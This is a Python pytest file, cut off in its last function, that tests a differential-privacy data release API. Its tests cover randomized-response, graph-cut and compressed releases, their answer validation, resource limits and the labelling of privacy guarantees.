"""randomized_response, graph_cuts and compressed as release types, through the API."""

from __future__ import annotations

import io
import itertools
import json
import uuid
from typing import Any

import numpy as np
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient

from app.mechanisms import compressed as cp
from app.releases import stages
from app.releases.adapters import randomized_response as rr_adapter
from tests.conftest import Caller
from tests.datasets.helpers import upload
from tests.datasets.test_graphs import upload_graph
from tests.releases.helpers import (
    assert_sessions_free_while_held,
    budget,
    finished_release,
    published_progress,
    race_same_key,
    request_release,
    run_all,
    services_of,
)


def _table(
    client: TestClient, curator: Caller, n: int = 400, **schema_changes: Any
) -> tuple[str, dict[str, np.ndarray]]:
    rng = np.random.default_rng(7)
    data = {
        "age": rng.uniform(0, 100, n).round(2),
        "weight": rng.uniform(40, 120, n).round(2),
        "blood": rng.choice(["A", "B", "AB", "O"], n, p=[0.4, 0.1, 0.1, 0.4]),
        "smoker": rng.integers(0, 2, n),
        "movie": rng.choice(["m1", "m2", "m3"], n),
    }
    lines = ["age,weight,blood,smoker,movie"] + [
        f"{data['age'][i]},{data['weight'][i]},{data['blood'][i]},{data['smoker'][i]},{data['movie'][i]}"
        for i in range(n)
    ]
    schema = {
        "name": "people",
        "columns": [
            {"name": "age", "kind": "continuous", "lower": 0, "upper": 100},
            {"name": "weight", "kind": "continuous", "lower": 20, "upper": 220},
            {"name": "blood", "kind": "categorical", "categories": ["A", "B", "AB", "O"]},
            {"name": "smoker", "kind": "binary"},
            {"name": "movie", "kind": "public"},
        ],
        "budget": {"epsilon": 10, "delta": 1e-6},
        **schema_changes,
    }
    response = upload(client, curator, ("\n".join(lines) + "\n").encode(), schema)
    assert response.status_code == 201, response.text
    return str(response.json()["id"]), data


def _answers(
    client: TestClient, caller: Caller, release_id: str, queries: list[dict[str, Any]]
) -> Any:
    return client.post(
        f"/v1/releases/{release_id}/answers", headers=caller.headers, json={"queries": queries}
    )


def _graph_release(
    client: TestClient, curator: Caller, content: bytes, vertices: int, epsilon: float
) -> tuple[str, str]:
    """Upload a graph (edge list ``content``) and run a graph_cuts release of it to the end:
    ``(dataset_id, release_id)``."""
    dataset_id = upload_graph(
        client,
        curator,
        content,
        {"name": "g", "kind": "graph", "vertices": vertices, "budget": {"epsilon": 5}},
    ).json()["id"]
    body = {"mechanism": "graph_cuts", "epsilon": epsilon}
    release_id = request_release(client, curator, dataset_id, body).json()["id"]
    run_all(client, release_id)
    return dataset_id, release_id


def test_randomized_response_end_to_end(client: TestClient, curator: Caller) -> None:
    dataset_id, data = _table(client, curator)
    body = {
        "mechanism": "randomized_response",
        "epsilon": 2.0,
        "columns": ["blood", "smoker", "movie"],
    }
    preview = client.post(
        f"/v1/datasets/{dataset_id}/preview", headers=curator.headers, json=body
    ).json()
    assert preview["resolved"]["domain_size"] == 8
    assert preview["resolved"]["public_column"] == "movie"
    assert preview["accuracy"]["rmse_bound"] > 0
    # the largest RMS error of the unbiased estimate: half of bound (20)
    assert preview["accuracy"]["rmse_worst_case"] == preview["accuracy"]["rmse_bound"] / 2
    done = finished_release(client, curator, dataset_id, body)
    release_id = done["id"]
    assert done["privacy_cost"]["epsilon"] <= 2.0
    assert done["resolved"]["domain_size"] == 8

    sample = pacsv.read_csv(
        io.BytesIO(
            client.get(f"/v1/releases/{release_id}/synthetic", headers=curator.headers).content
        )
    )
    assert sample.num_rows == 400
    assert set(sample["blood"].to_pylist()) <= {"A", "B", "AB", "O"}
    assert sample["movie"].to_pylist() == list(data["movie"])  # public: unperturbed

    queries = [
        {"type": "conjunction", "where": {"blood": "A"}},
        {"type": "conjunction", "where": {"blood": ["A", "O"], "smoker": 1}, "estimator": "proper"},
        {"type": "table", "values": [1.0] + [0.0] * 7},
        {
            "type": "heterogeneous",
            "by_public": {
                "m1": {"smoker": 1},
                "m2": {"blood": "B"},
                "m3": {"blood": "O", "smoker": 0},
            },
        },
        {"type": "conjunction", "where": {"blood": ["A", "O"], "smoker": 1}},  # 1, unbiased
        # every value allowed: 1 exactly (it was a 422, "a constant row function")
        {"type": "conjunction", "where": {"blood": ["O", "AB", "B", "A"]}},
        {"type": "conjunction", "where": {"smoker": [0, 1], "blood": ["A", "B", "AB", "O"]}},
    ]
    response = _answers(client, curator, release_id, queries)
    assert response.status_code == 200, response.text
    answers = response.json()["answers"]
    for every in answers[5:]:
        assert (every["value"], every["stderr"], every["interval"]) == (1.0, 0.0, [1.0, 1.0])
        assert "every row satisfies them" in every["note"]
    assert all("answered_ranges" not in a for a in answers)  # no continuous column
    # only conjunctions that allow every value of every column named are exact: not one
    # that restricts another column, nor one naming three categories, one of them twice
    partial = [
        {"type": "conjunction", "where": {"smoker": [0, 1], "blood": ["A"]}},
        {"type": "conjunction", "where": {"blood": ["A", "A", "B", "O"]}},
    ]
    estimated = _answers(client, curator, release_id, partial)
    assert estimated.status_code == 200, estimated.text
    for answer in estimated.json()["answers"]:
        assert answer["stderr"] > 0, answer
        assert "every row satisfies them" not in answer["note"]
    truth_a = float(np.mean(data["blood"] == "A"))
    assert abs(answers[0]["value"] - truth_a) < 5 * answers[0]["stderr"]
    assert answers[0]["interval"][0] < answers[0]["value"] < answers[0]["interval"][1]
    truth_cell0 = float(np.mean((data["blood"] == "A") & (data["smoker"] == 0)))  # cell 0 = (A, 0)
    assert abs(answers[2]["value"] - truth_cell0) < 5 * answers[2]["stderr"]
    truth_h = float(
        np.mean(
            ((data["movie"] == "m1") & (data["smoker"] == 1))
            | ((data["movie"] == "m2") & (data["blood"] == "B"))
        )
    )
    assert abs(answers[3]["value"] - truth_h) < 5 * answers[3]["stderr"]
    # the proper estimator (eq. 21) is the achievable answer k / n nearest to the unbiased
    # estimate of the same query on the same release (exact: both read the stored codes).
    # The unbiased estimate n * (count - rho n / 4) / (1 - rho) is itself a multiple of 1/n
    # only for the perturbed count 100 (0.25; otherwise >= 2.6e-6 away), so an adapter that
    # answered "proper" with the unbiased estimate passes with probability 5.2e-4 (that
    # count's exact probability, 155 of 400 rows true, rho = 0.556); never a false failure.
    proper, unbiased = answers[1], answers[4]
    assert (proper["estimator"], unbiased["estimator"]) == ("proper", "unbiased")
    assert 0.0 <= proper["value"] <= 1.0
    k = min(max(round(unbiased["value"] * 400), 0), 400)
    assert proper["value"] == pytest.approx(k / 400, abs=1e-12)
    assert proper["error_bound"] == pytest.approx(2 * unbiased["error_bound"], rel=1e-12)  # (22)
    # the release includes the public column "movie": the guarantee says what it covers
    guarantee = response.json()["guarantee"]
    assert guarantee.startswith("differential privacy")
    assert "agree on it" in guarantee

    for bad, fragment in (
        ({"type": "conjunction", "where": {"blood": "Z"}}, "no category"),
        ({"type": "conjunction", "where": {"age": 3}}, "not a perturbed column"),
        ({"type": "table", "values": [1.0]}, "needs 8 values"),
        ({"type": "gaussian_mixture"}, "queries.0"),
        (
            {"type": "heterogeneous", "by_public": {"m9": {"smoker": 1}}},
            "not in the released public column: ['m9']",
        ),
        ({"type": "heterogeneous", "by_public": {"m1": {"smoker": 1}}}, "no row function for 2"),
    ):
        refused = _answers(client, curator, release_id, [bad])
        assert refused.status_code == 422, bad
        assert fragment in refused.json()["error"]["message"]


def test_randomized_response_conditions_match_categories_in_unicode_normal_form_c(
    client: TestClient, curator: Caller
) -> None:
    """A condition names a category in either Unicode form ("é" as one code point or as
    "e" and a combining accent): categories and cells are compared in NFC."""
    nfc, nfd = "caf\u00e9", "cafe\u0301"
    csv = "c\n" + "".join(f"{nfd if i % 3 else 'tea'}\n" for i in range(300))
    schema = {
        "name": "drinks",
        "columns": [{"name": "c", "kind": "categorical", "categories": [nfc, "tea"]}],
        "budget": {"epsilon": 5, "delta": 0},
    }
    uploaded = upload(client, curator, csv.encode(), schema)
    assert uploaded.status_code == 201, uploaded.text
    body = {"mechanism": "randomized_response", "epsilon": 2.0}
    response = request_release(client, curator, uploaded.json()["id"], body)
    assert response.status_code == 202, response.text
    release_id = response.json()["id"]
    run_all(client, release_id)
    answers = _answers(
        client,
        curator,
        release_id,
        [{"type": "conjunction", "where": {"c": text}} for text in (nfc, nfd)],
    )
    assert answers.status_code == 200, answers.text
    first, second = answers.json()["answers"]
    assert first == second
    assert first["value"] > 0.3


def test_randomized_response_conditions_take_booleans_for_binary_columns_only(
    client: TestClient, curator: Caller
) -> None:
    """As the README states: a binary column's condition is 0, 1, false or true (its
    uploaded cells), and true answers exactly as 1; a categorical column's is a declared
    category, and a boolean is refused even where its text names one (``"True"`` here:
    ``str(True)`` matched it)."""
    columns = [
        {"name": "age", "kind": "continuous", "lower": 0, "upper": 100},
        {"name": "weight", "kind": "continuous", "lower": 20, "upper": 220},
        {"name": "blood", "kind": "categorical", "categories": ["A", "B", "AB", "O", "True"]},
        {"name": "smoker", "kind": "binary"},
        {"name": "movie", "kind": "public"},
    ]
    dataset_id, _ = _table(client, curator, columns=columns)
    body = {"mechanism": "randomized_response", "epsilon": 2.0, "columns": ["blood", "smoker"]}
    release_id = request_release(client, curator, dataset_id, body).json()["id"]
    run_all(client, release_id)
    queries = [
        {"type": "conjunction", "where": where}
        for where in (
            {"smoker": 1},
            {"smoker": True},
            {"smoker": [0, 1], "blood": "True"},
            {"smoker": [False, True], "blood": "True"},
        )
    ]
    response = _answers(client, curator, release_id, queries)
    assert response.status_code == 200, response.text
    answers = response.json()["answers"]
    assert (answers[0], answers[2]) == (answers[1], answers[3])
    for where, fragment in (
        ({"blood": True}, "column 'blood' is categorical: name a category, not true or false"),
        ({"blood": ["A", False]}, "column 'blood' is categorical"),
        ({"smoker": 2}, "column 'smoker' is binary: use 0, 1, false or true"),
    ):
        refused = _answers(client, curator, release_id, [{"type": "conjunction", "where": where}])
        assert refused.status_code == 422, (where, refused.text)
        assert f"queries.0: {fragment}" in refused.json()["error"]["message"]


def test_randomized_response_answers_bound_the_work_of_one_request(
    client: TestClient, curator: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every randomized-response answer reads the released rows' counts by cell (and a
    by_public query does Python work per public value): 100,000 queries on 10^6 distinct
    cells would hold a thread for hours. A batch whose queries times that work exceed
    MAX_ANSWER_WORK is refused with a 422 saying how many fit, and nothing is answered."""
    from app.releases.adapters import randomized_response as adapter

    dataset_id, _ = _table(client, curator, n=400)
    body = {"mechanism": "randomized_response", "epsilon": 2.0, "columns": ["blood", "smoker"]}
    release_id = request_release(client, curator, dataset_id, body).json()["id"]
    run_all(client, release_id)
    query = {"type": "conjunction", "where": {"smoker": 1}}
    default = adapter.MAX_ANSWER_WORK
    sample = client.get(
        f"/v1/releases/{release_id}/artifacts/sample.csv", headers=curator.headers
    ).text.splitlines()
    cells = len(set(sample[1:]))  # distinct released (blood, smoker) pairs
    monkeypatch.setattr(adapter, "MAX_ANSWER_WORK", 10 * cells)
    refused = _answers(client, curator, release_id, [query] * 11)
    assert refused.status_code == 422, refused.text
    assert refused.json()["error"]["message"] == (
        "11 queries are more than one request may ask of this release (each reads the "
        f"counts of its {cells} distinct released cells): at most 10 per request; split "
        "the batch"
    )
    assert _answers(client, curator, release_id, [query] * 10).status_code == 200
    # the default refuses 100,000 queries on 10^6 distinct cells, answers them on 1280
    assert 100_000 * 10**6 > default >= 100_000 * 1280


def test_randomized_response_discretises_continuous_columns(
    client: TestClient, curator: Caller
) -> None:
    dataset_id, data = _table(client, curator)
    body = {
        "mechanism": "randomized_response",
        "epsilon": 5.0,
        "columns": ["age"],
        "params": {"bits": 2},
    }
    release_id = request_release(client, curator, dataset_id, body).json()["id"]
    run_all(client, release_id)
    sample = pacsv.read_csv(
        io.BytesIO(
            client.get(f"/v1/releases/{release_id}/synthetic", headers=curator.headers).content
        )
    )
    assert set(sample["age"].to_pylist()) <= {12.5, 37.5, 62.5, 87.5}
    answer = _answers(
        client,
        curator,
        release_id,
        [{"type": "conjunction", "where": {"age": {"between": [0, 50]}}}],
    ).json()["answers"][0]
    assert abs(answer["value"] - float(np.mean(data["age"] < 50))) < 5 * answer["stderr"]
    assert answer["answered_ranges"] == {"age": [0.0, 50.0]}
    # [10, 60] takes the cells with midpoints 12.5 and 37.5: the answer is about [0, 50]
    # and says so (an audit measured 56 % coverage against the range asked)
    asked = _answers(
        client,
        curator,
        release_id,
        [{"type": "conjunction", "where": {"age": {"between": [10, 60]}}}],
    ).json()["answers"][0]
    assert asked["answered_ranges"] == {"age": [0.0, 50.0]}
    assert "not in the range asked" in asked["note"]
    # a range over every cell: 1 exactly, and still says which range it answered
    whole = _answers(
        client,
        curator,
        release_id,
        [{"type": "conjunction", "where": {"age": {"between": [0, 100]}}}],
    ).json()["answers"][0]
    assert (whole["value"], whole["stderr"]) == (1.0, 0.0)
    assert whole["answered_ranges"] == {"age": [0.0, 100.0]}
    for between in ([10], [1, 2, 3], ["a", 2], [True, 2], {"low": 1}):
        where = {"age": {"between": between}}
        refused = _answers(client, curator, release_id, [{"type": "conjunction", "where": where}])
        assert refused.status_code == 422, (between, refused.text)
        if isinstance(between, list) and len(between) != 2:  # the others fail the schema
            assert "two finite numbers" in refused.json()["error"]["message"]


def test_randomized_response_warns_when_useless(client: TestClient, curator: Caller) -> None:
    dataset_id, _ = _table(client, curator)
    body = {
        "mechanism": "randomized_response",
        "epsilon": 1.0,
        "columns": ["age", "weight"],
        "params": {"bits": 8},
    }
    preview = client.post(
        f"/v1/datasets/{dataset_id}/preview", headers=curator.headers, json=body
    ).json()
    assert preview["resolved"]["domain_size"] == 2**16
    assert preview["accuracy"]["useful"] is False
    assert "useless" in preview["accuracy"]["warning"]
    assert budget(client, curator, dataset_id)["entries"] == []
    bad = request_release(client, curator, dataset_id, {**body, "delta": 1e-9})
    assert bad.status_code == 422
    assert "use delta = 0" in bad.json()["error"]["message"]


def test_randomized_response_refuses_a_table_whose_rows_would_not_fit_in_memory(
    client: TestClient, curator: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The measure holds the n released rows, and rows cost a few bits of a Parquet file:
    a request whose rows need more than MAX_MEASURE_BYTES is refused before anything is
    reserved, a public column counted (resource-exhaustion audit: 5 10^7 rows, a 187 KB
    file, took 2.7 GiB; 10^9 would have taken 57 GB)."""
    assert rr_adapter.MAX_MEASURE_BYTES // rr_adapter.MEASURE_ROW_BYTES == 67_108_864
    dataset_id, _ = _table(client, curator)  # n = 400
    monkeypatch.setattr(rr_adapter, "MAX_MEASURE_BYTES", 400 * rr_adapter.MEASURE_ROW_BYTES)
    body = {"mechanism": "randomized_response", "epsilon": 2.0}
    without_public = {**body, "columns": ["blood", "smoker"]}
    assert request_release(client, curator, dataset_id, without_public).status_code == 202
    response = request_release(client, curator, dataset_id, body)  # with the public "movie"
    assert response.status_code == 422, response.text
    message = response.json()["error"]["message"]
    assert "about 320 bytes a row: 400 rows are more than its limit" in message
    assert "at most 80 rows" in message
    assert "without the public column" in message
    assert len(budget(client, curator, dataset_id)["entries"]) == 1  # the first one's
    assert services_of(client).queue.pending() == 1


def test_graph_cuts_end_to_end(client: TestClient, curator: Caller, analyst: Caller) -> None:
    rng = np.random.default_rng(3)
    n = 60
    pairs = {(int(u), int(v)) for u, v in rng.integers(0, n, size=(300, 2)) if u < v}
    content = ("\n".join(f"{u} {v}" for u, v in sorted(pairs)) + "\n").encode()
    dataset_id = upload_graph(
        client,
        curator,
        content,
        {"name": "g", "kind": "graph", "vertices": n, "budget": {"epsilon": 5}},
    ).json()["id"]
    preview = client.post(
        f"/v1/datasets/{dataset_id}/preview",
        headers=curator.headers,
        json={"mechanism": "graph_cuts", "epsilon": 1},
    ).json()
    assert preview["resolved"]["vertex_pairs"] == n * (n - 1) // 2
    assert json.dumps(preview).find(str(len(pairs))) == -1 or len(pairs) < 10  # no edge count
    release_id = request_release(
        client, curator, dataset_id, {"mechanism": "graph_cuts", "epsilon": 1}
    ).json()["id"]
    run_all(client, release_id)
    done = client.get(f"/v1/releases/{release_id}", headers=curator.headers).json()
    assert done["status"] == "succeeded", done
    edges = pq.read_table(
        io.BytesIO(
            client.get(
                f"/v1/releases/{release_id}/artifacts/edges.parquet", headers=curator.headers
            ).content
        )
    )
    assert all(
        u < v < n for u, v in zip(edges["u"].to_pylist(), edges["v"].to_pylist(), strict=True)
    )
    S, T = list(range(30)), list(range(30, 60))
    truth = sum(1 for u, v in pairs if (u in S) != (v in S))
    client.post(
        f"/v1/datasets/{dataset_id}/grants",
        headers=curator.headers,
        json={"user_id": str(analyst.id)},
    )
    answer = _answers(client, analyst, release_id, [{"type": "cut", "S": S, "T": T}]).json()[
        "answers"
    ][0]
    assert abs(answer["value"] - truth) < 5 * answer["stderr"]
    assert answer["error_bound"] > answer["stderr"] > 0
    low, high = answer["interval"]
    assert 0 <= low <= high <= len(S) * len(T)
    assert "exact" in answer["note"]
    overlap = _answers(client, analyst, release_id, [{"type": "cut", "S": [0, 1], "T": [1, 2]}])
    assert overlap.status_code == 422
    assert (
        request_release(
            client, curator, dataset_id, {"mechanism": "randomized_response", "epsilon": 1}
        ).status_code
        == 422
    )


def test_compressed_is_labelled_and_needs_the_opt_in(client: TestClient, curator: Caller) -> None:
    dataset_id, _ = _table(client, curator, n=600)
    body = {"mechanism": "compressed", "columns": ["age", "weight"], "params": {"delta_max": 0.05}}
    refused = request_release(client, curator, dataset_id, body)
    assert refused.status_code == 409
    client.patch(
        f"/v1/datasets/{dataset_id}", headers=curator.headers, json={"allow_non_dp_releases": True}
    )
    assert request_release(client, curator, dataset_id, {**body, "epsilon": 1}).status_code == 422
    small = request_release(
        client, curator, dataset_id, {**body, "params": {"delta_max": 0.05, "m": 10}}
    )
    assert small.status_code == 422
    assert "must be at least" in small.json()["error"]["message"]
    # with the data as its own reference Theorem 4.6 does not apply: no guarantee is
    # claimed, from the preview and the request on (the design audit: it claimed paper 002's)
    preview = client.post(f"/v1/datasets/{dataset_id}/preview", headers=curator.headers, json=body)
    assert preview.status_code == 200, preview.text
    assert preview.json()["guarantee"] == cp.DATA_REFERENCE_GUARANTEE
    assert preview.json()["resolved"]["guarantee"] == cp.DATA_REFERENCE_GUARANTEE
    response = request_release(client, curator, dataset_id, body)
    assert response.status_code == 202, response.text
    assert response.json()["guarantee"] == cp.DATA_REFERENCE_GUARANTEE
    assert cp.DATA_REFERENCE_GUARANTEE.startswith("no proven privacy guarantee")
    release_id = response.json()["id"]
    run_all(client, release_id)
    done = client.get(f"/v1/releases/{release_id}", headers=curator.headers).json()
    assert done["status"] == "succeeded", done
    assert done["privacy_cost"]["kind"] == "distributional"
    assert done["guarantee"] == done["resolved"]["guarantee"] == cp.DATA_REFERENCE_GUARANTEE
    # the data as its own reference: no alpha, which would be a statistic of the data
    assert done["resolved"]["reference"] == "data"
    assert (done["resolved"]["alpha"], done["resolved"]["alpha_pairwise"]) == (None, None)
    assert done["resolved"]["alpha_note"].startswith("not reported: without a declared reference")
    card = client.get(
        f"/v1/releases/{release_id}/artifacts/release.json", headers=curator.headers
    ).json()
    assert (card["alpha"], card["alpha_note"]) == (None, done["resolved"]["alpha_note"])
    assert card["guarantee"] == cp.DATA_REFERENCE_GUARANTEE
    # measured before the label: resolved and the artifacts' descriptions recorded paper
    # 002's guarantee; shown as it applies now, beside the top-level one (review)
    from app.models import Release

    with services_of(client).db.transaction() as session:
        record = session.get(Release, uuid.UUID(release_id))
        assert record is not None
        record.resolved = {**record.resolved, "guarantee": cp.GUARANTEE}
        record.artifacts = {
            name: {
                **meta,
                "description": meta["description"].replace(
                    cp.DATA_REFERENCE_GUARANTEE, cp.GUARANTEE
                ),
            }
            for name, meta in record.artifacts.items()
        }
    older = client.get(f"/v1/releases/{release_id}", headers=curator.headers).json()
    assert older["guarantee"] == older["resolved"]["guarantee"] == cp.DATA_REFERENCE_GUARANTEE
    descriptions = [a["description"] for a in older["artifacts"]]
    assert not any(cp.GUARANTEE in text for text in descriptions)
    assert any(cp.DATA_REFERENCE_GUARANTEE in text for text in descriptions)
    # nor is it kept with the stored measurement (privacy-rules audit: it was, unreported)
    from app.models import ReleaseMeasurement
    from app.releases.payloads import unpack

    with services_of(client).db.transaction() as session:
        stored = session.get(ReleaseMeasurement, uuid.UUID(release_id))
        assert stored is not None
        record = unpack(stored.payload)
    assert (record["alpha"], record["alpha_pairwise"]) == (None, None)
    second, _ = _table(client, curator, n=600, allow_non_dp_releases=True)
    declared = request_release(
        client,
        curator,
        second,  # one compressed release per dataset
        {**body, "params": {"delta_max": 0.1, "reference": [[1.0, 0.0], [0.0, 1.0]]}},
    )
    assert declared.status_code == 202, declared.text
    assert declared.json()["guarantee"] == cp.GUARANTEE
    assert cp.GUARANTEE == "distributional privacy (paper 002), not differential privacy"
    run_all(client, declared.json()["id"])
    shown = client.get(f"/v1/releases/{declared.json()['id']}", headers=curator.headers).json()
    assert shown["guarantee"] == cp.GUARANTEE
    resolved = shown["resolved"]
    assert resolved["guarantee"] == cp.GUARANTEE
    assert resolved["reference"] == "declared"
    assert resolved["alpha"] == pytest.approx(53.62, abs=0.01)  # Theorem 4.6 at I, 0.1, n, p, m
    assert resolved["alpha_pairwise"] == 2 * resolved["alpha"]
    answers = _answers(client, curator, release_id, [{"type": "pca", "k": 1}]).json()
    assert answers["guarantee"] == cp.DATA_REFERENCE_GUARANTEE
    assert answers["answers"][0]["guarantee"] == cp.DATA_REFERENCE_GUARANTEE
    declared_answers = _answers(
        client, curator, declared.json()["id"], [{"type": "pca", "k": 1}]
    ).json()
    assert declared_answers["guarantee"] == cp.GUARANTEE
    assert declared_answers["answers"][0]["guarantee"] == cp.GUARANTEE
    value = answers["answers"][0]["value"]
    assert len(value["components"]) == 1
    assert len(value["components"][0]) == 2
    matrix = pq.read_table(
        io.BytesIO(
            client.get(
                f"/v1/releases/{release_id}/artifacts/compressed.parquet", headers=curator.headers
            ).content
        )
    )
    assert matrix.column_names == ["age", "weight"]
    summary = budget(client, curator, dataset_id)
    assert [e["kind"] for e in summary["entries"]] == ["non_dp"]
    assert summary["epsilon_spent"] == 0.0


def test_compressed_releases_a_column_constant_at_its_midpoint(
    client: TestClient, curator: Caller
) -> None:
    """A column constant at the midpoint of its bounds is zero in every stored row, which
    eq. (4) cannot normalise: it is released as zero. (It used to fail after reading the
    data, which spent the dataset's one compressed release on an error.)"""
    rng = np.random.default_rng(3)
    weights = rng.uniform(40, 120, 600).round(2)
    csv = "age,weight\n" + "".join(f"50,{w}\n" for w in weights)
    schema = {
        "name": "flat",
        "columns": [
            {"name": "age", "kind": "continuous", "lower": 0, "upper": 100},
            {"name": "weight", "kind": "continuous", "lower": 20, "upper": 220},
        ],
        "budget": {"epsilon": 1, "delta": 0},
        "allow_non_dp_releases": True,
    }
    uploaded = upload(client, curator, csv.encode(), schema)
    assert uploaded.status_code == 201, uploaded.text
    body = {"mechanism": "compressed", "params": {"delta_max": 0.05}}
    response = request_release(client, curator, uploaded.json()["id"], body)
    assert response.status_code == 202, response.text
    release_id = response.json()["id"]
    run_all(client, release_id)
    done = client.get(f"/v1/releases/{release_id}", headers=curator.headers).json()
    assert done["status"] == "succeeded", done
    matrix = pq.read_table(
        io.BytesIO(
            client.get(
                f"/v1/releases/{release_id}/artifacts/compressed.parquet", headers=curator.headers
            ).content
        )
    )
    assert np.all(matrix.column("age").to_numpy() == 0.0)
    assert np.any(matrix.column("weight").to_numpy() != 0.0)
    value = _answers(client, curator, release_id, [{"type": "pca", "k": 1}]).json()["answers"][0]
    assert value["value"]["components"][0][0] == pytest.approx(0.0, abs=1e-12)


def test_idempotent_copies_of_a_compressed_request_replay(
    client: TestClient, curator: Caller
) -> None:
    """A copy of the request that waited on the dataset lock while the first committed
    replays it; the one-release check does not refuse it (it did on PostgreSQL)."""
    dataset_id, _ = _table(client, curator, n=600, allow_non_dp_releases=True)
    body = {"mechanism": "compressed", "columns": ["age", "weight"], "params": {"delta_max": 0.5}}
    race_same_key(client, curator, dataset_id, body, copies=6)


def test_one_compressed_release_per_dataset(client: TestClient, curator: Caller) -> None:
    """Paper 002's guarantee covers one ``Phi X``. Repeats averaged towards the exact
    normalised covariance (an audit: 50 releases, Frobenius error 0.22 -> 0.02), and a
    declared reference's refusal (data outside S_n), retried with moving references,
    bisected an entry of it to 2e-8 in 24 requests. A second request is a 409, whether
    the first succeeded, failed after reading the data, or is still running; one cancelled
    before reading does not count."""
    dataset_id, _ = _table(client, curator, n=600, allow_non_dp_releases=True)
    far = {"delta_max": 0.05, "reference": [[1.0, 0.9], [0.9, 1.0]]}
    base = {"mechanism": "compressed", "columns": ["age", "weight"]}
    first = request_release(client, curator, dataset_id, {**base, "params": far})
    assert first.status_code == 202, first.text
    running = request_release(client, curator, dataset_id, {**base, "params": far})
    assert running.status_code == 409, running.text
    previewed = client.post(  # the preview says what the request would meet
        f"/v1/datasets/{dataset_id}/preview", headers=curator.headers, json={**base, "params": far}
    )
    assert previewed.status_code == 409, previewed.text
    assert first.json()["id"] in previewed.json()["error"]["message"]
    run_all(client, first.json()["id"])
    failed = client.get(f"/v1/releases/{first.json()['id']}", headers=curator.headers).json()
    assert failed["status"] == "failed"
    assert "outside the protected class" in failed["message"]
    entries = budget(client, curator, dataset_id)["entries"]
    assert [e["kind"] for e in entries] == ["non_dp"]  # the data were read: recorded
    for params, columns in (
        ({**far, "delta_max": 0.5}, base["columns"]),  # the next step of a bisection
        (far, base["columns"]),  # a repeat
        ({"delta_max": 0.5}, ["age"]),
    ):
        refused = request_release(
            client, curator, dataset_id, {**base, "columns": columns, "params": params}
        )
        assert refused.status_code == 409, (params, refused.text)
        assert first.json()["id"] in refused.json()["error"]["message"]
    assert budget(client, curator, dataset_id)["entries"] == entries

    other, _ = _table(client, curator, n=600, allow_non_dp_releases=True)
    near = {"delta_max": 0.5, "reference": [[1.0, 0.0], [0.0, 1.0]]}
    queued = request_release(client, curator, other, {**base, "params": near}).json()["id"]
    assert client.delete(f"/v1/releases/{queued}", headers=curator.headers).status_code == 200
    kept = request_release(client, curator, other, {**base, "params": near})
    assert kept.status_code == 202, kept.text  # the cancelled one read nothing
    run_all(client, kept.json()["id"])
    done = client.get(f"/v1/releases/{kept.json()['id']}", headers=curator.headers).json()
    assert done["status"] == "succeeded", done
    again = request_release(client, curator, other, {**base, "params": near})
    assert again.status_code == 409, again.text


def test_a_malformed_reference_is_refused_before_anything_is_reserved(
    client: TestClient, curator: Caller
) -> None:
    """A declared reference that is not symmetric, not positive definite or not finite, or
    has a diagonal entry more than delta_max from both 1 and 0 (a column's normalised
    variance, or a column constant at its midpoint), depends on the request alone: the preview and the request are 422s. The worker used to
    refuse it after reading the data, which spent the dataset's one compressed release
    (a non_dp ledger entry, then a 409 for every later request)."""
    dataset_id, _ = _table(client, curator, n=600, allow_non_dp_releases=True)
    base = {"mechanism": "compressed", "columns": ["age", "weight"]}
    for reference, message in (
        ([[1.0, 0.5], [0.0, 1.0]], "finite symmetric"),
        ([[-1.0, 0.0], [0.0, -1.0]], "positive definite"),
        ([[0.0, 0.0], [0.0, 0.0]], "positive definite"),
        ([[1.0, float("nan")], [float("nan"), 1.0]], "finite symmetric"),
        ([[1.0, float("inf")], [float("inf"), 1.0]], "finite symmetric"),
        # positive definite, but no data's unit diagonal is within delta_max of it
        ([[5.0, 0.0], [0.0, 5.0]], "diagonal entry 0 is more than delta_max"),
        ([[1.0, 0.0], [0.0, 1.6]], "diagonal entry 1 is more than delta_max"),
    ):
        # NaN and Infinity as a JSON body's bare tokens, which the service's parser accepts
        body = json.dumps({**base, "params": {"delta_max": 0.5, "reference": reference}})
        headers = {**curator.headers, "Content-Type": "application/json"}
        for path in ("preview", "releases"):
            refused = client.post(
                f"/v1/datasets/{dataset_id}/{path}", headers=headers, content=body
            )
            assert refused.status_code == 422, (reference, refused.text)
            assert message in refused.json()["error"]["message"], refused.text
    assert client.get(f"/v1/datasets/{dataset_id}/releases", headers=curator.headers).json() == []
    assert budget(client, curator, dataset_id)["entries"] == []
    near = {"delta_max": 0.5, "reference": [[1.0, 0.0], [0.0, 1.0]]}
    kept = request_release(client, curator, dataset_id, {**base, "params": near})
    assert kept.status_code == 202, kept.text


def test_an_m_whose_phi_is_too_large_to_draw_is_refused_before_anything_is_reserved(
    client: TestClient, curator: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``Phi`` has ``m n`` entries, each a CSPRNG normal (36-65 ns here): ``m = 999 999``
    on ``10^6`` rows was accepted and would have drawn for some 10 hours. Over
    ``MAX_PROJECTION_ENTRIES`` the preview and the request are 422s naming the largest
    ``m``; at it, the request goes ahead."""
    dataset_id, _ = _table(client, curator, n=600, allow_non_dp_releases=True)
    monkeypatch.setattr(cp, "MAX_PROJECTION_ENTRIES", 300 * 600)
    base = {"mechanism": "compressed", "columns": ["age", "weight"]}
    for path in ("preview", "releases"):
        refused = client.post(
            f"/v1/datasets/{dataset_id}/{path}",
            headers=curator.headers,
            json={**base, "params": {"delta_max": 0.5, "m": 301}},
        )
        assert refused.status_code == 422, refused.text
        assert "m may be at most 300" in refused.json()["error"]["message"], refused.text
    assert client.get(f"/v1/datasets/{dataset_id}/releases", headers=curator.headers).json() == []
    assert budget(client, curator, dataset_id)["entries"] == []
    monkeypatch.setattr(cp, "MAX_PROJECTION_ENTRIES", 158 * 600)  # below the smallest m, 159
    refused = client.post(
        f"/v1/datasets/{dataset_id}/preview",
        headers=curator.headers,
        json={**base, "params": {"delta_max": 0.5}},
    )
    assert refused.status_code == 422, refused.text
    assert "a compressed release of 600 rows" in refused.json()["error"]["message"]
    monkeypatch.setattr(cp, "MAX_PROJECTION_ENTRIES", 300 * 600)
    kept = request_release(
        client, curator, dataset_id, {**base, "params": {"delta_max": 0.5, "m": 300}}
    )
    assert kept.status_code == 202, kept.text


def test_a_delta_max_outside_the_unit_interval_is_refused_before_anything_is_recorded(
    client: TestClient, curator: Caller
) -> None:
